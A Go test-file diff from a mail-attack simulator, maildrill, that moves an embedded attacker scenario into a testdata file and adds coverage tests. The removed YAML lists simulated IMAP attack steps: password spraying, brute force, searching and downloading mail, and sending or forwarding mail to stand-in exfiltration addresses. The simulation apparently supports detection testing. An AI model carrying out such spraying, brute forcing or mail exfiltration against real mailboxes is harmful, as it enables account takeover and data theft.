@@ -1,4 +1,4 @@
-package scenarios
+package run
 
 import (
 	"bytes"
@@ -13,70 +13,21 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/maildrill/maildrill/mailsim/audit"
+	"github.com/maildrill/maildrill/scenarios"
 )
 
 // allSteps exercises every step kind against the embedded target.
-const allSteps = `
-id: all-steps
-title: every step kind
-environment: {users: 8, messages: 30, seed: 3, start: 2025-12-11T22:00:00+01:00, duration: 6h}
-actors:
-  - id: intruder
-    kind: attacker
-    source: 203.0.113.50
-    client: {name: TestClient, version: "9"}
-    helo: EVIL-PC
-    credentials: {user: secretariat}
-    pacing: {delay: 3s}
-    steps:
-      - id: spray
-        spray: {users: 4, passwords: [NotIt1!, NotIt2!], delay: 10s}
-      - id: brute
-        brute_force: {user: director, attempts: 5, delay: 2s}
-      - id: login
-        login: {}
-      - id: list
-        list: {}
-      - id: examine
-        examine: INBOX
-      - id: search
-        search: {keywords: [dossier, note]}
-      - id: headers
-        fetch_headers: {from_search: true, limit: 5}
-      - id: attachments
-        download_attachments: {limit: 3}
-      - id: messages
-        download_messages: {limit: 2}
-      - id: others
-        open_mailboxes: {scope: all}
-      - id: mark
-        mark: {mailbox: INBOX, seen: false, limit: 2}
-      - id: move
-        move: {mailbox: INBOX, name: Trash, limit: 1}
-      - id: append
-        append: {mailbox: Drafts, subject: drop, body: "rendez-vous"}
-      - id: idle
-        idle: 2m
-      - id: delete
-        delete: {mailbox: INBOX, limit: 2, expunge: true}
-      - id: wait
-        wait: 30m
-      - id: send
-        send: {to: [drop@exfil.example], attach: downloaded, max_attachments: 2, delay: 10s}
-      - id: forward
-        forward: {mailbox: INBOX, to: [relay@exfil.example], limit: 1}
-      - id: repeat
-        repeat:
-          times: 2
-          steps: [{login: {}}, {list: {}}, logout]
-      - id: foreach
-        foreach: {over: mailboxes, limit: 2, steps: [{fetch_headers: {limit: 1}}]}
-      - logout
-`
+var allSteps = func() string {
+	b, err := os.ReadFile("../testdata/all-steps.yaml")
+	if err != nil {
+		panic(err)
+	}
+	return string(b)
+}()
 
-func runYAML(t *testing.T, src string) (*Result, []*audit.Event) {
+func runYAML(t *testing.T, src string) (*scenarios.Result, []*audit.Event) {
 	t.Helper()
-	sc, err := Parse("test.yaml", []byte(src))
+	sc, err := scenarios.Parse("test.yaml", []byte(src))
 	require.NoError(t, err)
 	var evBuf, trBuf, slBuf bytes.Buffer
 	res, err := Run(context.Background(), sc, Options{Events: &evBuf, Truth: &trBuf, Syslog: &slBuf})
@@ -90,10 +41,10 @@ func runYAML(t *testing.T, src string) (*Result, []*audit.Event) {
 	require.Equal(t, res.Events, len(evs))
 	trLines := bytes.Split(bytes.TrimSpace(trBuf.Bytes()), []byte("\n"))
 	require.Equal(t, len(res.Truth)+1, len(trLines), "the header, then one line per action")
-	h, ok, err := ParseRecordingHeader(trLines[0])
+	h, ok, err := scenarios.ParseRecordingHeader(trLines[0])
 	require.NoError(t, err)
 	require.True(t, ok, "the first truth line is the recording header")
-	require.Equal(t, RecordingHeader{Format: RecordingFormat, RunID: res.RunID, ScenarioID: sc.ID, ScenarioSHA256: sc.SHA256,
+	require.Equal(t, scenarios.RecordingHeader{Format: scenarios.RecordingFormat, RunID: res.RunID, ScenarioID: sc.ID, ScenarioSHA256: sc.SHA256,
 		ScenarioFile: "test.yaml", Seed: sc.Env.Seed, Target: "embedded", RulesSHA256: h.RulesSHA256, Rules: h.Rules}, h)
 	require.NotEmpty(t, h.RulesSHA256)
 	require.Positive(t, h.Rules)
@@ -138,6 +89,14 @@ func TestEveryStepKind(t *testing.T) {
 	assert.GreaterOrEqual(t, from(audit.IMAPLogin, ok), 1+1+2, "brute force success, login, repeat logins")
 	assert.GreaterOrEqual(t, from(audit.IMAPList), 1+2)
 	assert.GreaterOrEqual(t, from(audit.IMAPExamine), 1)
+	assert.GreaterOrEqual(t, from(audit.IMAPSelect), 1, "select (read-write)")
+	recon := 0
+	for _, tr := range res.Truth {
+		if tr.Step == "recon" && tr.Action == "imap.connect" {
+			recon++
+		}
+	}
+	assert.Equal(t, 1, recon, "connect: one reconnaissance session, no login")
 	assert.Equal(t, 1, from(audit.IMAPSearch, func(e *audit.Event) bool { return strings.Contains(e.Search, "TEXT") }))
 	assert.Equal(t, 3, from(audit.IMAPFetch, func(e *audit.Event) bool {
 		return e.FileName != "" && regexp.MustCompile(`BODY\.PEEK\[\d`).MatchString(e.FetchItems) && e.Mailbox == "INBOX"
@@ -190,7 +149,7 @@ func TestDeterminism(t *testing.T) {
 	src = strings.Replace(src, "      - id: spray\n", "      - id: spray\n        at: \"22:00\"\n", 1)
 	var runs [2][2]string
 	for i := range runs {
-		sc, err := Parse("d.yaml", []byte(src))
+		sc, err := scenarios.Parse("d.yaml", []byte(src))
 		require.NoError(t, err)
 		var ev, tr bytes.Buffer
 		_, err = Run(context.Background(), sc, Options{Events: &ev, Truth: &tr})
@@ -220,8 +179,36 @@ func TestScenarioOfRunID(t *testing.T) {
 		{"my-run", "", false},
 		{"md-x-8db0faa", "", false},
 	} {
-		id, ok := ScenarioOfRunID(c.in)
+		id, ok := scenarios.ScenarioOfRunID(c.in)
 		assert.Equal(t, c.ok, ok, c.in)
 		assert.Equal(t, c.id, id, c.in)
+	}
+}
+
+// TestEveryKindImplemented: the scenario language's registry of step kinds
+// and the implementations here name the same kinds, and the all-steps
+// scenario exercises each of them (TestEveryStepKind runs it).
+func TestEveryKindImplemented(t *testing.T) {
+	sc, err := scenarios.Parse("all-steps.yaml", []byte(allSteps))
+	require.NoError(t, err)
+	used := map[string]bool{}
+	var walk func([]*scenarios.Step)
+	walk = func(steps []*scenarios.Step) {
+		for _, st := range steps {
+			used[st.Kind] = true
+			walk(st.Params().Steps)
+		}
+	}
+	for _, a := range sc.Actors {
+		walk(a.Steps)
+	}
+	kinds := map[string]bool{}
+	for _, k := range scenarios.StepKinds() {
+		kinds[k.Name] = true
+		assert.Contains(t, impls, k.Name, "step kind %q has no implementation in scenarios/run", k.Name)
+		assert.True(t, used[k.Name], "step kind %q is not in testdata/all-steps.yaml", k.Name)
+	}
+	for name := range impls {
+		assert.True(t, kinds[name], "implementation %q is of no registered step kind (scenarios/kinds.go)", name)
 	}
 }
